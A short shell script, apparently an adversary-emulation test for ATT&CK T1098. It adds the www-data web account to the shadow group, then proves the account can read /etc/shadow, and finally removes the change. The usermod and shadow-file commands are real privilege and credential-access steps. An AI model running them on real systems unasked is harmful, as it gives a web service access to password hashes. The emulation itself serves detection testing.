#!/bin/sh
# T1098 (quiet): The web account joined the group that reads password hashes
M=/var/tmp/luytre-foothold N=53-shadow-group
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
low() { setpriv --reuid="$1" --regid="$(id -g "$1")" --init-groups env -u SUDO_USER HOME=/tmp sh -c "$2" </dev/null; }
plant() {
  usermod -aG shadow www-data
}
prove() {
  rm -f "$M/$N"
  low www-data "cut -d: -f1 /etc/shadow > /var/tmp/luytre-foothold/53-shadow-group"; seen
}
remove() {
  gpasswd -d www-data shadow >/dev/null
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
